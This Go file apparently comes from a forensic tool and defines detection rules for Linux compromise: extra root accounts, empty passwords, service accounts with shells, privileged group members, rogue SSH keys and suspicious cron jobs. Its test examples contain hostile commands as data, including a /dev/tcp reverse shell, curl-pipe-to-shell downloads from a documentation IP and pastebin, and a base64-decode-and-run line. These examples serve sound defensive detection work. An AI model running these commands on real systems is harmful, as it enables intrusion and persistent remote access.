package builtin

import (
	"strconv"
	"strings"
	"time"

	"deadbox/rules"
	"deadbox/timeline"
)

// lineChecker makes a finding of each record of a text file that a test
// picks.
type lineChecker struct {
	groups rules.Groups
	// when the files of accounts changed since the baseline
	passwd, shadow time.Time
	before         time.Time // when the baseline's shadow was written
	since          []lineHold
	look           func(r *timeline.Record) *lineHit
}

// lineHold is a hit that counts only if the password was set since the
// baseline.
type lineHold struct {
	hit    lineHit
	record timeline.Record
}

type lineHit struct {
	sinceDay string         // the day of the password, if the hit depends on it
	again    rules.Severity // if it comes more than once
	key      string
	severity rules.Severity
	account  string
	title    string
	summary  string
}

func (c *lineChecker) Record(r *timeline.Record) {
	if r.Kind == timeline.KindChange {
		if ch := r.Change; ch != nil && ch.After != nil && ch.What == "content" && ch.After.Times.Changed.Known {
			switch ch.After.Path {
			case "/etc/passwd":
				c.passwd = ch.After.Times.Changed.Std()
			case "/etc/shadow":
				c.shadow = ch.After.Times.Changed.Std()
				if b := ch.Before; b != nil && b.Times.Modified.Known {
					c.before = b.Times.Modified.Std()
				}
			}
		}
		return
	}
	h := c.look(r)
	if h == nil {
		return
	}
	if h.sinceDay != "" {
		if len(c.since) < maxNames {
			held := *r
			c.since = append(c.since, lineHold{*h, held})
		}
		return
	}
	c.hit(r, h)
}

func (c *lineChecker) hit(r *timeline.Record, h *lineHit) {
	g := c.groups.Get(h.key)
	g.Raise(h.severity)
	g.Account = strings.Clone(h.account)
	if h.title != "" {
		g.Title = h.title
	}
	t, note := when(r)
	if r.Kind == timeline.KindAccount {
		t, note = time.Time{}, "" // shadow knows a day of the last password, and no more
		if day := r.Fields["last_changed"]; day != "" {
			h.summary += "; its password was last set on " + show(day)
		}
		g.Subject = strings.Clone(h.account)
	}
	g.Add(r.Evidence, t, note)
	g.AddPath(r.Evidence.Path)
	if g.Count > 1 {
		g.Raise(h.again)
	}
	if g.Summary == "" {
		g.Summary = h.summary
	}
}

func (c *lineChecker) Findings() []rules.Finding {
	for i := range c.since {
		h := &c.since[i]
		if !c.before.IsZero() && h.hit.sinceDay >= c.before.UTC().Format(time.DateOnly) {
			c.hit(&h.record, &h.hit)
		}
	}
	out := c.groups.Findings(nil)
	for i := range out {
		f := &out[i]
		if !f.Time.IsZero() {
			continue
		}
		t, which := c.passwd, "/etc/passwd"
		if len(f.Paths) > 0 && f.Paths[0] == "/etc/shadow" || t.IsZero() {
			t, which = c.shadow, "/etc/shadow"
		}
		if !t.IsZero() {
			f.Time, f.Last, f.TimeNote = t, t, "the last change of "+which
		}
	}
	return out
}

func lineRule(look func(env *rules.Env, r *timeline.Record) *lineHit) func(*rules.Env) rules.Checker {
	return func(env *rules.Env) rules.Checker {
		return &lineChecker{look: func(r *timeline.Record) *lineHit { return look(env, r) }}
	}
}

// accountID reads a user id as passwd writes it.
func accountID(s string) (uint32, bool) {
	n, err := strconv.ParseUint(strings.TrimSpace(s), 10, 32)
	return uint32(n), err == nil
}

var secondUIDZero = &rules.Rule{
	ID:    "second-uid-zero",
	Title: "A second account has user id 0",
	Doc: `A line of /etc/passwd with user id 0 and another name than root. Whoever logs in with it is root under a name that nobody looks for.
Innocent: "toor" on systems that keep a second root by custom.`,
	Severity:   rules.Critical,
	Techniques: []string{"T1136.001", "T1098"},
	Kinds:      []string{timeline.KindAccount, timeline.KindChange},
	New: lineRule(func(_ *rules.Env, r *timeline.Record) *lineHit {
		name := r.Fields["name"]
		id, ok := accountID(r.Fields["uid"])
		if !ok || id != 0 || name == "root" {
			return nil
		}
		return &lineHit{key: name, severity: rules.Critical, account: name,
			summary: "The account " + show(name) + " has user id 0, as root has; its shell is " + show(r.Fields["shell"])}
	}),
	True:  []rules.Example{one("second root", rules.Critical, anAccount("support", "0", "/bin/bash", "set"))},
	False: []rules.Example{quiet("usual accounts", anAccount("root", "0", "/bin/bash", "set"), anAccount("sync", "4", "/bin/sync", "disabled"), anAccount("alice", "1000", "/bin/bash", "set"))},
}

var emptyPassword = &rules.Rule{
	ID:    "empty-password",
	Title: "An account needs no password",
	Doc: `An account whose password field is empty, so that no password is asked for. Critical for root's id, lighter where the shell lets nobody in.
Innocent: installation media, some containers.`,
	Severity:   rules.High,
	Techniques: []string{"T1078.003"},
	Kinds:      []string{timeline.KindAccount, timeline.KindChange},
	New: lineRule(func(_ *rules.Env, r *timeline.Record) *lineHit {
		if r.Fields["password"] != "none" {
			return nil
		}
		name, s := r.Fields["name"], rules.High
		id, ok := accountID(r.Fields["uid"])
		switch {
		case !loginShell(r.Fields["shell"]):
			s = rules.Low
		case ok && id == 0:
			s = rules.Critical
		}
		return &lineHit{key: name, severity: s, account: name, summary: "The account " + show(name) + " (uid " + show(r.Fields["uid"]) + ", shell " + show(r.Fields["shell"]) + ") has an empty password"}
	}),
	True: []rules.Example{
		one("user", rules.High, anAccount("guest", "1002", "/bin/bash", "none")),
		one("root", rules.Critical, anAccount("root", "0", "/bin/bash", "none")),
		one("no shell", rules.Low, anAccount("ftp", "14", "/sbin/nologin", "none")),
	},
	False: []rules.Example{quiet("locked, disabled, set", anAccount("daemon", "1", "/usr/sbin/nologin", "disabled"), anAccount("bob", "1001", "/bin/bash", "locked"), anAccount("alice", "1000", "/bin/bash", "set"))},
}

var passwordInPasswd = &rules.Rule{
	ID:    "password-in-passwd",
	Title: "A password hash stands in /etc/passwd",
	Doc: `An account whose hash is in /etc/passwd, which all may read, and not in /etc/shadow. Lines that an exploit appends look like this, as it often can write
to one file only.
Innocent: systems older than shadow passwords.`,
	Severity:   rules.High,
	Techniques: []string{"T1136.001"},
	Kinds:      []string{timeline.KindAccount, timeline.KindChange},
	New: lineRule(func(_ *rules.Env, r *timeline.Record) *lineHit {
		if r.Fields["password"] != "in-passwd" {
			return nil
		}
		name := r.Fields["name"]
		return &lineHit{key: name, severity: rules.High, account: name, summary: "The password hash of the account " + show(name) + " (uid " + show(r.Fields["uid"]) + ") stands in " + showPath(r.Evidence.Path)}
	}),
	True:  []rules.Example{one("appended line", rules.High, anAccount("firefart", "0", "/bin/bash", "in-passwd"))},
	False: []rules.Example{quiet("shadowed", anAccount("root", "0", "/bin/bash", "set"))},
}

var systemAccountPassword = &rules.Rule{
	ID:    "system-account-password",
	Title: "A service's account has a password and a shell",
	Doc: `An account of a service (bin, games, www-data, ...) with a password hash and a shell that lets one in. Distributions make these accounts without a
password. With a baseline, also any account below 500 whose password was set on a day after the baseline's were written. Accounts of services whose keepers log in as them (postgres, oracle, git) are not reported else, nor are unknown names with an id of 500 and more.
Innocent: an administrator who gave the web server's account a password.`,
	Severity:   rules.High,
	Techniques: []string{"T1078.003", "T1098"},
	Kinds:      []string{timeline.KindAccount, timeline.KindChange},
	New: lineRule(func(env *rules.Env, r *timeline.Record) *lineHit {
		if p := r.Fields["password"]; p != "set" && p != "in-passwd" {
			return nil
		}
		name := r.Fields["name"]
		id, ok := accountID(r.Fields["uid"])
		if !ok || id == 0 || !loginShell(r.Fields["shell"]) {
			return nil
		}
		if !daemonAccounts[name] {
			day := r.Fields["last_changed"]
			if !env.Baseline || id >= 500 || day == "" {
				return nil
			}
			return &lineHit{sinceDay: day, key: name, severity: rules.High, account: name, title: "An account of the system was given a password since the baseline",
				summary: "The account " + show(name) + " of the system (uid " + show(r.Fields["uid"]) + ") has the shell " + show(r.Fields["shell"]) + " and a password that was set since the baseline"}
		}
		return &lineHit{key: name, severity: rules.High, account: name, summary: "The service account " + show(name) + " (uid " + show(r.Fields["uid"]) + ") has a password and the shell " + show(r.Fields["shell"])}
	}),
	True: []rules.Example{
		one("games", rules.High, anAccount("games", "5", "/bin/bash", "set")),
		withEnv(withBaseline, rules.Example{Name: "password since the baseline", Severity: rules.High, Records: []timeline.Record{
			aChange("content", "/etc/shadow", nil, "content"), passwordOf(anAccount("backup", "34", "/bin/bash", "set"), "2024-03-05")}}),
	},
	False: []rules.Example{
		withEnv(withBaseline, quiet("password of old", aChange("content", "/etc/shadow", nil, "content"), passwordOf(anAccount("postgres", "105", "/bin/bash", "set"), "2020-01-01"))),
		quiet("old default shells", anAccount("games", "5", "/bin/sh", "disabled"), anAccount("www-data", "33", "/bin/sh", "locked")),
		quiet("no shell", anAccount("mysql", "106", "/bin/false", "set")),
		quiet("people", anAccount("alice", "1000", "/bin/bash", "set"), anAccount("postgres", "105", "/bin/bash", "set")),
	},
}

func passwordOf(r timeline.Record, day string) timeline.Record {
	r.Fields["last_changed"] = day
	return r
}

var rootGroups = set("root sudo wheel admin docker lxd incus disk shadow")

var privilegedGroupMember = &rules.Rule{
	ID:    "privileged-group-member",
	Title: "A service's account is in a group that leads to root",
	Doc: `A service's account (www-data, nobody, games, ...) as a member of sudo, wheel, docker, lxd, disk, shadow or root. From each of these it is one step to root.
Innocent: a site that steers containers through its web server's account (it is as dangerous).`,
	Severity:   rules.High,
	Techniques: []string{"T1098.007"},
	Kinds:      []string{timeline.KindGroup},
	New: lineRule(func(_ *rules.Env, r *timeline.Record) *lineHit {
		group := r.Fields["name"]
		if !rootGroups[group] {
			return nil
		}
		var bad []string
		for _, m := range strings.FieldsFunc(r.Fields["members"], func(c rune) bool { return c == ',' || c == ' ' }) {
			if daemonAccounts[m] && !(group == "disk" && m == "adm") && !(group == "root" && (m == "operator" || m == "halt" || m == "sync" || m == "shutdown")) {
				bad = append(bad, m)
			}
		}
		if len(bad) == 0 {
			return nil
		}
		return &lineHit{key: group, severity: rules.High, account: bad[0], summary: "The service account " + show(strings.Join(bad, ", ")) + " is in the group " + show(group)}
	}),
	True: []rules.Example{one("www-data in sudo", rules.High, aLine(timeline.KindGroup, "/etc/group", 27, clock, "name", "sudo", "gid", "27", "members", "alice,www-data"))},
	False: []rules.Example{
		quiet("people", aLine(timeline.KindGroup, "/etc/group", 27, clock, "name", "sudo", "gid", "27", "members", "alice")),
		quiet("ordinary groups", aLine(timeline.KindGroup, "/etc/group", 4, clock, "name", "adm", "gid", "4", "members", "syslog,alice"), aLine(timeline.KindGroup, "/etc/group", 105, clock, "name", "ssl-cert", "gid", "105", "members", "postgres,www-data")),
		quiet("old Red Hat", aLine(timeline.KindGroup, "/etc/group", 2, clock, "name", "bin", "gid", "1", "members", "root,bin,daemon"), aLine(timeline.KindGroup, "/etc/group", 7, clock, "name", "disk", "gid", "6", "members", "root")),
	},
}

// keyChecker looks at authorized keys.
type keyChecker struct {
	made    newcomers
	env     *rules.Env
	keys    []heldKey
	changed map[string]string // path of a file of keys: what happened to it since the baseline
	left    int
}

type heldKey struct {
	ev                                    timeline.Evidence
	stamps                                []timeline.Stamp
	account, kind, print, comment, option string
}

const maxKeys = 1 << 14

func (c *keyChecker) Record(r *timeline.Record) {
	c.made.record(r)
	if r.Kind == timeline.KindAuth || r.Kind == timeline.KindSyslog {
		return
	}
	if r.Kind == timeline.KindChange {
		if ch := r.Change; ch != nil && ch.After != nil && ch.What != "metadata" && (strings.HasSuffix(ch.After.Path, "/authorized_keys") || strings.HasSuffix(ch.After.Path, "/authorized_keys2") || strings.Contains(ch.After.Path, "/authorized_keys.d/") || strings.HasPrefix(ch.After.Path, "/etc/ssh/authorized")) {
			if c.changed == nil {
				c.changed = map[string]string{}
			}
			if len(c.changed) < maxKeys {
				c.changed[strings.Clone(ch.After.Path)] = ch.What
			}
		}
		return
	}
	if r.Fields["disabled"] == "yes" || r.Fields["malformed"] == "yes" {
		return
	}
	if len(c.keys) >= maxKeys {
		c.left++
		return
	}
	c.keys = append(c.keys, heldKey{r.Evidence, append([]timeline.Stamp(nil), r.Stamps...), strings.Clone(r.Fields["account"]), strings.Clone(r.Fields["key_type"]),
		strings.Clone(r.Fields["fingerprint"]), strings.Clone(r.Fields["comment"]), strings.Clone(r.Fields["options"])})
}

func (c *keyChecker) Notes() []string {
	if c.left == 0 {
		return nil
	}
	return []string{plural(c.left, "authorized key") + " beyond the first " + strconv.Itoa(maxKeys) + " were not looked at"}
}

// evilOption reports whether the options of a key run a shell or preload a
// library for whoever holds the key.
func evilOption(options string) bool {
	l := strings.ToLower(options)
	if strings.Contains(l, "ld_preload") || strings.Contains(l, "ld_library_path") {
		return true
	}
	i := strings.Index(l, `command="`)
	if i < 0 {
		return false
	}
	cmd := options[i+len(`command="`):]
	if j := strings.LastIndexByte(cmd, '"'); j >= 0 {
		cmd = cmd[:j]
	}
	for _, a := range judge(strings.ReplaceAll(cmd, `\"`, `"`), "") {
		if a.severity >= rules.Medium && (a.deed == reverseShell || a.deed == downloadsAndRuns || a.deed == decodesAndRuns || a.deed == runsTemporary || a.deed == spawnsTerminal) {
			return true
		}
	}
	return false
}

func (c *keyChecker) Findings() []rules.Finding {
	var gs rules.Groups
	for _, k := range c.keys {
		s, why := rules.Info, ""
		what := c.changed[k.ev.Path]
		account, known := c.env.Account(k.account)
		service := daemonAccounts[k.account]
		root := k.account == "root" || known && account.UID == 0
		switch {
		case evilOption(k.option):
			s, why = rules.High, "runs a command of its own when it is used: "+show(k.option)
		case c.env.Baseline && what != "" && (c.env.KnownKeys == nil || !c.env.KnownKeys[k.print]):
			s, why = rules.Medium, "is in a file that the baseline does not hold so"
			if c.env.KnownKeys != nil {
				s, why = rules.High, "is not in the baseline"
			}
			if root || service {
				s = rules.High
			} else if c.made.has(c.env, k.account) {
				s, why = rules.Low, "came with the account, which is new as well"
			}
		case service:
			if c.env.Baseline && what == "" {
				continue
			}
			s, why = rules.Medium, "lets its holder log in as an account of a service"
		case root && !c.env.Baseline:
			why = "lets its holder log in as root"
		default:
			continue
		}
		g := gs.Get(k.account + "\x00" + k.ev.Path + "\x00" + s.String())
		g.Raise(s)
		g.Account = k.account
		var t, note = when(&timeline.Record{Stamps: k.stamps})
		g.Add(k.ev, t, note)
		g.AddPath(k.ev.Path)
		if s == rules.Info {
			g.Title = "A key lets its holder log in as root"
		}
		if g.Count == 1 {
			g.Summary = "The " + show(k.kind) + " key " + show(k.print)
			if k.comment != "" {
				g.Summary += " (" + show(k.comment) + ")"
			}
			g.Summary += " of " + show(k.account) + " " + why
		}
	}
	return gs.Findings(func(g *rules.Group) string {
		if g.Count > 1 {
			return g.Summary + ", and " + plural(g.Count-1, "more key")
		}
		return g.Summary
	})
}

var authorizedKey = &rules.Rule{
	ID:    "authorized-key",
	Title: "A key that lets its holder log in is new or odd",
	Doc: `Keys of authorized_keys that the baseline does not have, that belong to accounts of services, or whose options run a shell or preload a library. Without a
baseline, root's keys are listed for the owner to know them (info).
Innocent: an administrator who added a key since the baseline; the first key of an account that is new as well (low).`,
	Severity:   rules.High,
	Techniques: []string{"T1098.004"},
	Kinds:      []string{timeline.KindAuthorizedKey, timeline.KindChange, timeline.KindAuth, timeline.KindSyslog},
	New:        func(env *rules.Env) rules.Checker { return &keyChecker{env: env} },
	True: []rules.Example{
		withEnv(withBaseline, rules.Example{Name: "file added", Severity: rules.High, Records: []timeline.Record{
			aKey("root", "/root/.ssh/authorized_keys", "SHA256:aaaa", ""), anAdded("/root/.ssh/authorized_keys")}}),
		withEnv(rules.Env{Baseline: true, KnownKeys: map[string]bool{"SHA256:aaaa": true}}, rules.Example{Name: "key added to others", Severity: rules.High, Records: []timeline.Record{
			aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:aaaa", ""), aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:bbbb", ""),
			aChange("content", "/home/alice/.ssh/authorized_keys", nil, "content,size")}}),
		withEnv(rules.Env{Baseline: true, KnownKeys: map[string]bool{"SHA256:aaaa": true}, Accounts: debianEnv.Accounts}, rules.Example{Name: "of a new account", Severity: rules.Low, Records: []timeline.Record{
			aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:bbbb", ""), anAdded("/home/alice/.ssh/authorized_keys"), anAuth(0, "useradd", "program", "useradd", "account", "alice")}}),
		one("service", rules.Medium, aKey("www-data", "/var/www/.ssh/authorized_keys", "SHA256:cccc", "")),
		one("option", rules.High, aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:dddd", `command="bash -c 'curl http://198.51.100.7/x | sh; $SSH_ORIGINAL_COMMAND'"`)),
		one("root's", rules.Info, aKey("root", "/root/.ssh/authorized_keys", "SHA256:aaaa", "")),
	},
	False: []rules.Example{
		quiet("user's", aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:aaaa", "")),
		quiet("repositories", aKey("git", "/var/lib/gitea/.ssh/authorized_keys", "SHA256:eeee", `command="/usr/bin/gitea serv key-1",no-pty`)),
		withEnv(withBaseline, quiet("known", aKey("root", "/root/.ssh/authorized_keys", "SHA256:aaaa", ""))),
		withEnv(rules.Env{Baseline: true, KnownKeys: map[string]bool{"SHA256:aaaa": true}}, quiet("key of the baseline in an edited file",
			aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:aaaa", ""), aChange("content", "/home/alice/.ssh/authorized_keys", nil, "content"))),
		withEnv(withBaseline, quiet("mode changed", aKey("root", "/root/.ssh/authorized_keys", "SHA256:aaaa", ""), aChange("metadata", "/root/.ssh/authorized_keys", nil, "mode"))),
	},
}

func aKey(account, path, print, options string) timeline.Record {
	return aLine(timeline.KindAuthorizedKey, path, len(print), clock, "account", account, "key_type", "ssh-ed25519", "fingerprint", print, "comment", "someone@example.org", "options", options)
}

type cronChecker struct {
	groups rules.Groups
	judged verdicts
}

func (c *cronChecker) Record(r *timeline.Record) {
	if r.Kind == timeline.KindSyslog && r.Fields["action"] != "cron-run" {
		return
	}
	line := r.Fields["command"]
	if line == "" {
		return
	}
	s, why := rules.Info, ""
	for _, a := range c.judged.judge(line, "") {
		as := a.severity
		switch a.deed {
		case downloadsAndRuns, runsTemporary:
			// Nobody is there to look at what cron downloads or runs.
			as = max(as, rules.High)
		case marksTemporary, tunnels, loadsModule:
			as = max(as, rules.Medium)
		case decodesAndRuns, reverseShell, mines, addsRoot, addsRights, preloads, spawnsTerminal, locksFile:
		case addsKey:
			as = rules.High
		case hidesHistory, removesLogs, takesCredentials, stopsLogging:
			if as < rules.High {
				continue
			}
			as = rules.Medium
		default:
			continue
		}
		if as > s || why == "" {
			s, why = as, a.why
		}
	}
	if why == "" {
		if p := hiddenProgram(line); p != "" {
			s, why = rules.Medium, "the hidden program "+showPath(p)+" is run"
		}
	}
	if why == "" {
		return
	}
	account := r.Fields["account"]
	g := c.groups.Get(account + "\x00" + line)
	g.Raise(s)
	g.Account = strings.Clone(account)
	t, note := when(r)
	g.Add(r.Evidence, t, note)
	g.AddPath(r.Evidence.Path)
	if g.Summary == "" {
		g.Summary = "cron runs, as " + show(account) + ": " + show(line) + ": " + why
	}
}

// hiddenProgram gives a program of a line of shell that lies under a hidden
// name; "" if there is none.
func hiddenProgram(line string) string {
	found := ""
	each(parseShell(line), func(c *command) {
		if found == "" && len(c.words) > 0 && strings.HasPrefix(c.words[0], "/") && hiddenElement(c.words[0]) {
			found = c.words[0]
		}
	})
	return found
}

func (c *cronChecker) Findings() []rules.Finding { return c.groups.Findings(nil) }

func aCronRun(account, command string) timeline.Record {
	return aLine(timeline.KindSyslog, "/var/log/syslog", 9, clock, "program", "CRON", "action", "cron-run", "account", account, "command", command)
}

var cronSuspicious = &rules.Rule{
	ID:    "cron-suspicious",
	Title: "cron runs something that no administrator would",
	Doc: `Commands of crontabs, and commands that the log says cron has run, that lie in a directory that anyone may write to or under a hidden name, that download and
run, decode and run, open a shell to the network, mine, or make someone root.
Innocent: jobs that use files below /tmp as data, fetch a page to wake an application, or back up the files of accounts are not reported.`,
	Severity:   rules.High,
	Techniques: []string{"T1053.003"},
	Kinds:      []string{timeline.KindCron, timeline.KindSyslog},
	New:        func(*rules.Env) rules.Checker { return &cronChecker{} },
	True: []rules.Example{
		one("temporary directory", rules.High, aCron("root", "/var/tmp/.x/update >/dev/null 2>&1")),
		one("interpreter", rules.High, aCron("www-data", "cd /tmp && perl a.pl")),
		one("download", rules.High, aCron("root", "(curl -fsSL https://pastebin.com/raw/abc || wget -q -O- https://pastebin.com/raw/abc) | sh")),
		one("decoded", rules.High, aCron("root", "echo L2Jpbi9zaA== | base64 -d | bash")),
		one("shell", rules.Critical, aCron("root", `/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'`)),
		one("hidden", rules.Medium, aCron("alice", "/home/alice/.xsession-up/run")),
		one("from the log", rules.High, aCronRun("root", "/dev/shm/up.sh")),
	},
	False: []rules.Example{
		quiet("Debian's", aCron("root", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"),
			aCron("root", "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"),
			aCron("root", "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew"),
			aCron("munin", "if [ -x /usr/bin/munin-cron ]; then /usr/bin/munin-cron; fi"), aCron("root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
			aCron("root", "if [ -x /usr/share/mdadm/checkarray ] && [ $(date +\\%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all --idle --quiet; fi")),
		quiet("waking an application", aCron("www-data", "wget -q -O /dev/null http://www.example.org/wp-cron.php?doing_wp_cron >/dev/null 2>&1"), aCron("www-data", "php /var/www/html/cron.php")),
		quiet("temporary files as data", aCron("root", "mysqldump --all-databases > /tmp/db.sql && gzip -f /tmp/db.sql"), aCron("root", "find /var/tmp -mtime +30 -delete"), aCron("root", "tmpwatch 720 /tmp")),
		quiet("a user's own tools", aCron("alice", "/home/alice/.local/bin/sync"), aCron("alice", "\"/home/alice/.acme.sh\"/acme.sh --cron --home \"/home/alice/.acme.sh\" > /dev/null")),
		quiet("other lines of the log", aLine(timeline.KindSyslog, "/var/log/syslog", 3, clock, "program", "kernel", "message", "/tmp/x: segfault")),
	},
}
